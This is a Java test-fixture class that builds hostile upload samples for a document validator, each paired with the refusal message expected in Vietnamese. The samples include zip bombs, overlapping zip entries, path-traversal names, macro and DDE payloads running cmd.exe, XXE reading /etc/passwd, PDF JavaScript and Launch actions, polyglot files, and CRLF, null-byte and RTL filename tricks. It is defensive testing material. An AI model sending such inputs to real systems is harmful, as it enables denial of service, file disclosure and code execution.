package vn.thidua.document;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.UnaryOperator;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;

/** Files that somebody might send who means harm, each with words of the rule that refuses it. They are made here; none of them is kept. */
public final class HostileFiles {

    private static final byte[] ZEROS = new byte[1 << 20];

    private HostileFiles() {
    }

    /** @param rule words that the refusal must contain */
    public record Hostile(String name, byte[] content, String rule) {
    }

    /** Everything that may not be attached. */
    public static List<Hostile> all() {
        List<Hostile> all = new ArrayList<>();
        all.addAll(archives());
        all.addAll(office());
        all.addAll(documents());
        all.addAll(pictures());
        all.addAll(disguises());
        return all;
    }

    /** Spreadsheets that must not be read. */
    public static List<Hostile> sheets() {
        return List.of(archives().get(0), archives().get(1), rows(1_000_000), rows(30_000), swollen(), encrypted(), new Hostile("b.xlsx", zip(Map.of("a.txt", "a".getBytes(UTF_8))), ""));
    }

    private static List<Hostile> archives() {
        return List.of(
            new Hostile("bom.xlsx", bomb(SampleFiles.xlsx("a"), "xl/media/a.png", 300), "nén quá mức"),
            new Hostile("1-1000.xlsx", bomb(SampleFiles.xlsx("a"), "xl/worksheets/sheet9.xml", 20), "nén quá mức"),
            new Hostile("bom.docx", bomb(SampleFiles.docx("a"), "word/media/a.bmp", 300), "nén quá mức"),
            new Hostile("chong.docx", overlapping(), "chồng lên nhau"),
            new Hostile("nhieu.docx", zip(many(3_000)), "quá nhiều thành phần"),
            new Hostile("duong-dan.docx", with(SampleFiles.docx("a"), "../../etc/cron.d/a", "x"), "tên đường dẫn lạ"),
            new Hostile("cat.docx", cut(SampleFiles.docx("a")), "hỏng"),
            swollen(),
            rows(1_000_000));
    }

    private static List<Hostile> office() {
        byte[] docx = SampleFiles.docx("Báo cáo");
        byte[] xlsx = SampleFiles.xlsx("Bảng");
        String relations = "word/_rels/document.xml.rels";
        return List.of(
            new Hostile("macro.docx", changed(docx, "[Content_Types].xml", types -> types.replace(
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml")), "có macro"),
            new Hostile("vba.docx", with(docx, "word/vbaProject.bin", "x"), "có macro"),
            new Hostile("vba.xlsx", with(xlsx, "xl/vbaProject.bin", "x"), "có macro"),
            new Hostile("xlm.xlsx", with(xlsx, "xl/macrosheets/sheet1.xml", "<a/>"), "có macro"),
            new Hostile("mau.docx", relation(docx, relations, "attachedTemplate", "https://example.invalid/a.dotm"), "từ bên ngoài"),
            new Hostile("anh-ngoai.docx", relation(docx, relations, "image", "\\\\example.invalid\\a.png"), "từ bên ngoài"),
            new Hostile("lien-ket.docx", relation(docx, relations, "hyperlink", "file:///c:/windows/system32/calc.exe"), "từ bên ngoài"),
            new Hostile("dde.docx", changed(docx, "word/document.xml", text -> text.replaceFirst("<w:r>",
                "<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\\\\\windows\\\\\\\\cmd.exe</w:instrText></w:r><w:r>")), "trường hoặc công thức"),
            new Hostile("dde-2.docx", changed(docx, "word/document.xml", text -> text.replaceFirst("<w:r>",
                "<w:fldSimple w:instr=\"DDEAUTO c:\\\\\\\\cmd.exe\"/><w:r>")), "trường hoặc công thức"),
            new Hostile("dde.xlsx", with(xlsx, "xl/externalLinks/externalLink1.xml", "<a/>"), "liên kết ra ngoài"),
            new Hostile("web.xlsx", changed(xlsx, "xl/worksheets/sheet1.xml", sheet -> sheet.replaceFirst("<c ", "<c r=\"Z9\"><f>WEBSERVICE(\"http://a\")</f></c><c ")),
                "trường hoặc công thức"),
            new Hostile("ole.docx", with(docx, "word/embeddings/oleObject1.bin", "x"), "thành phần hoạt động"),
            new Hostile("long.docx", nested(3), "tệp nhúng bên trong"),
            new Hostile("thuc-the.docx", changed(docx, "word/document.xml", text -> text.replaceFirst("<w:document",
                "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><w:document")), "hỏng"),
            encrypted());
    }

    private static List<Hostile> documents() {
        return List.of(
            new Hostile("js.pdf", SampleFiles.pdfWith("a", "6 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"), "JavaScript"),
            new Hostile("js-2.pdf", SampleFiles.pdfWith("a", "6 0 obj\n<< /S /J#61vaScript /JS (app.alert(1)) >>\nendobj\n"), "JavaScript"),
            new Hostile("js-3.pdf", packed("<< /S /JavaScript /JS (app.alert(1)) >>"), "JavaScript"),
            new Hostile("mo.pdf", SampleFiles.pdfWith("a", "6 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"), "mở chương trình"),
            new Hostile("nhung.pdf", SampleFiles.pdfWith("a", "6 0 obj\n<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream\nendobj\n"), "tệp nhúng"),
            new Hostile("mat-khau.pdf", SampleFiles.pdfWith("a", "6 0 obj\n<< /Encrypt 7 0 R >>\nendobj\n"), "mật khẩu"),
            new Hostile("bom.pdf", packed(" ".repeat(20_000_000)), "nén quá mức"),
            new Hostile("luong.pdf", SampleFiles.pdfWith("a", "stream\n".repeat(200_000)), "quá nhiều thành phần"),
            new Hostile("pdf-zip.pdf", joined(SampleFiles.pdf("a"), SampleFiles.docx("b")), "kiểu khác"),
            new Hostile("pdf-html.pdf", joined(SampleFiles.pdf("a"), "<html><script>alert(1)</script></html>".getBytes(UTF_8)), "kiểu khác"));
    }

    private static List<Hostile> pictures() {
        byte[] huge = SampleFiles.png();
        huge[16] = 0;
        huge[17] = 1;
        huge[20] = 0;
        huge[21] = 1;
        return List.of(
            new Hostile("anh.png", huge, "ảnh quá lớn"),
            new Hostile("gifar.jpg", joined(SampleFiles.jpg(), zip(Map.of("A.class", ZEROS))), "kiểu khác"),
            new Hostile("anh-html.jpg", comment("<script>alert(1)</script>"), "kiểu khác"),
            new Hostile("anh-pdf.jpg", comment("%PDF-1.4"), "kiểu khác"),
            new Hostile("them.png", joined(SampleFiles.png(), "MZ".getBytes(UTF_8)), "nối sau ảnh"));
    }

    private static List<Hostile> disguises() {
        byte[] pdf = SampleFiles.pdf("a");
        return List.of(
            new Hostile("trang.pdf", "<!DOCTYPE html><script>alert(1)</script>".getBytes(UTF_8), "nội dung không phải"),
            new Hostile("ve.png", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>".getBytes(UTF_8), "nội dung không phải"),
            new Hostile("ve.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"/>".getBytes(UTF_8), "nội dung không phải"),
            new Hostile("chuong-trinh.jpg", joined("MZ".getBytes(UTF_8), ZEROS), "nội dung không phải"),
            new Hostile("cu.doc", joined(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0}, ZEROS), "Office cũ"),
            new Hostile("a.exe", pdf, "đuôi tên tệp là «.exe»"),
            new Hostile("a.docx", pdf, "nội dung là PDF"),
            new Hostile("khong-duoi", pdf, "đuôi tên tệp"),
            new Hostile("rong.pdf", new byte[0], "rỗng"),
            new Hostile("../../a.pdf", pdf, "đường dẫn"),
            new Hostile("c:\\windows\\a.pdf", pdf, "đường dẫn"),
            new Hostile(".pdf", pdf, "dấu chấm"),
            new Hostile("a\u0000.pdf", pdf, "ký tự điều khiển"),
            new Hostile("a\r\nSet-Cookie: b.pdf", pdf, "ký tự điều khiển"),
            new Hostile("bao-cao\u202Efdp.exe.pdf", pdf, "ký tự ẩn"),
            new Hostile("a".repeat(300) + ".pdf", pdf, "dài quá"),
            new Hostile(" ", pdf, "để trống"));
    }

    private static Hostile rows(int count) {
        StringBuilder sheet = new StringBuilder("<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>");
        for (int row = 1; row <= count; row++) {
            sheet.append("<row r=\"").append(row).append("\"><c r=\"A").append(row).append("\"><v>").append(row * 7919L % 1000).append("</v></c></row>");
        }
        String text = sheet.append("</sheetData></worksheet>").toString();
        return new Hostile("trieu-dong.xlsx", changed(SampleFiles.xlsx("a"), "xl/worksheets/sheet1.xml", before -> text), "nén quá mức");
    }

    /** Eighteen parts that stay, each, just below the ratio that is refused, and are too much together. */
    private static Hostile swollen() {
        Map<String, byte[]> parts = parts(SampleFiles.xlsx("a"));
        Random random = new Random(1);
        for (int i = 0; i < 18; i++) {
            byte[] part = new byte[4 << 20];
            byte[] noise = new byte[44 << 10];
            random.nextBytes(noise);
            System.arraycopy(noise, 0, part, 0, noise.length);
            parts.put("xl/media/p" + i + ".png", part);
        }
        return new Hostile("phinh.xlsx", zip(parts), "nén quá mức");
    }

    private static Hostile encrypted() {
        try (POIFSFileSystem container = new POIFSFileSystem(); ByteArrayOutputStream file = new ByteArrayOutputStream()) {
            var encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
            encryptor.confirmPassword("mat-khau");
            try (var out = encryptor.getDataStream(container)) {
                out.write(SampleFiles.xlsx("a"));
            }
            container.writeFilesystem(file);
            return new Hostile("mat-khau.xlsx", file.toByteArray(), "đặt mật khẩu");
        } catch (IOException | java.security.GeneralSecurityException impossible) {
            throw new IllegalStateException(impossible);
        }
    }

    /** Megabytes of zeros as one part. */
    private static byte[] bomb(byte[] office, String part, int megabytes) {
        ByteArrayOutputStream file = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(file)) {
            for (Map.Entry<String, byte[]> entry : parts(office).entrySet()) {
                put(zip, entry.getKey(), entry.getValue());
            }
            zip.putNextEntry(new ZipEntry(part));
            for (int i = 0; i < megabytes; i++) {
                zip.write(ZEROS);
            }
            zip.closeEntry();
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return file.toByteArray();
    }

    /** Two names in the directory for the same bytes: the second local header lies inside the first part. */
    private static byte[] overlapping() {
        ByteArrayOutputStream inner = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(inner)) {
            zip.setMethod(ZipOutputStream.STORED);
            stored(zip, "b", ZEROS);
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        byte[] quoted = inner.toByteArray();
        int local = 30 + 1 + ZEROS.length;
        byte[] data = java.util.Arrays.copyOf(quoted, local);
        ByteArrayOutputStream outer = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(outer)) {
            zip.setMethod(ZipOutputStream.STORED);
            stored(zip, "a", data);
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return directoryOfBoth(outer.toByteArray(), quoted, data.length);
    }

    private static byte[] directoryOfBoth(byte[] outer, byte[] inner, int dataLength) {
        int outerDirectory = 31 + dataLength;
        byte[] first = java.util.Arrays.copyOfRange(outer, outerDirectory, outer.length - 22);
        byte[] second = java.util.Arrays.copyOfRange(inner, dataLength, inner.length - 22);
        second[42] = 31;
        byte[] end = java.util.Arrays.copyOfRange(outer, outer.length - 22, outer.length);
        end[8] = 2;
        end[10] = 2;
        int size = first.length + second.length;
        end[12] = (byte) size;
        end[13] = (byte) (size >> 8);
        return joined(joined(java.util.Arrays.copyOf(outer, outerDirectory), first), joined(second, end));
    }

    private static void stored(ZipOutputStream zip, String name, byte[] content) throws IOException {
        ZipEntry entry = new ZipEntry(name);
        java.util.zip.CRC32 sum = new java.util.zip.CRC32();
        sum.update(content);
        entry.setSize(content.length);
        entry.setCompressedSize(content.length);
        entry.setCrc(sum.getValue());
        zip.putNextEntry(entry);
        zip.write(content);
        zip.closeEntry();
    }

    private static byte[] nested(int depth) {
        byte[] inner = SampleFiles.docx("a");
        for (int i = 0; i < depth; i++) {
            Map<String, byte[]> outer = parts(SampleFiles.docx("a"));
            outer.put("word/embeddings/a.docx", inner);
            inner = zip(outer);
        }
        return inner;
    }

    private static byte[] packed(String objects) {
        try (ByteArrayOutputStream bytes = new ByteArrayOutputStream()) {
            try (DeflaterOutputStream deflated = new DeflaterOutputStream(bytes)) {
                deflated.write(("6 0 " + objects).getBytes(ISO_8859_1));
            }
            return SampleFiles.pdfWith("a", "7 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length " + bytes.size() + " >>\nstream\n"
                + bytes.toString(ISO_8859_1) + "\nendstream\nendobj\n");
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
    }

    private static byte[] comment(String words) {
        byte[] text = words.getBytes(UTF_8);
        byte[] jpg = SampleFiles.jpg();
        byte[] marker = {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xFE, 0, (byte) (text.length + 2)};
        return joined(joined(marker, text), java.util.Arrays.copyOfRange(jpg, 2, jpg.length));
    }

    private static byte[] relation(byte[] office, String part, String type, String target) {
        return changed(office, part, relations -> relations.replace("</Relationships>",
            "<Relationship Id=\"rX\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s\" Target=\"%s\" TargetMode=\"External\"/></Relationships>"
                .formatted(type, target)).replaceFirst("/>$", relationsAround(type, target)));
    }

    /** POI writes an empty element where there is no relation yet. */
    private static String relationsAround(String type, String target) {
        return "><Relationship Id=\\\"rX\\\" Type=\\\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s\\\" Target=\\\"%s\\\" TargetMode=\\\"External\\\"/></Relationships>"
            .formatted(type, java.util.regex.Matcher.quoteReplacement(target)).replace("\\\"", "\"");
    }

    private static byte[] changed(byte[] office, String part, UnaryOperator<String> change) {
        Map<String, byte[]> parts = parts(office);
        String before = new String(parts.get(part), UTF_8);
        String after = change.apply(before);
        if (after.equals(before)) {
            throw new AssertionError("Nothing was changed in " + part + ": " + before);
        }
        parts.put(part, after.getBytes(UTF_8));
        return zip(parts);
    }

    private static byte[] with(byte[] office, String part, String content) {
        Map<String, byte[]> parts = parts(office);
        parts.put(part, content.getBytes(UTF_8));
        return zip(parts);
    }

    private static Map<String, byte[]> many(int count) {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        for (int i = 0; i < count; i++) {
            parts.put("p" + i, new byte[0]);
        }
        return parts;
    }

    private static Map<String, byte[]> parts(byte[] office) {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(office))) {
            for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                parts.put(entry.getName(), zip.readAllBytes());
            }
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return parts;
    }

    private static byte[] zip(Map<String, byte[]> parts) {
        ByteArrayOutputStream file = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(file)) {
            for (Map.Entry<String, byte[]> part : parts.entrySet()) {
                put(zip, part.getKey(), part.getValue());
            }
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return file.toByteArray();
    }

    private static void put(ZipOutputStream zip, String name, byte[] content) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(content);
        zip.closeEntry();
    }

    private static byte[] cut(byte[] file) {
        return java.util.Arrays.copyOf(file, file.length / 2);
    }

    private static byte[] joined(byte[] first, byte[] second) {
        byte[] both = java.util.Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }
}
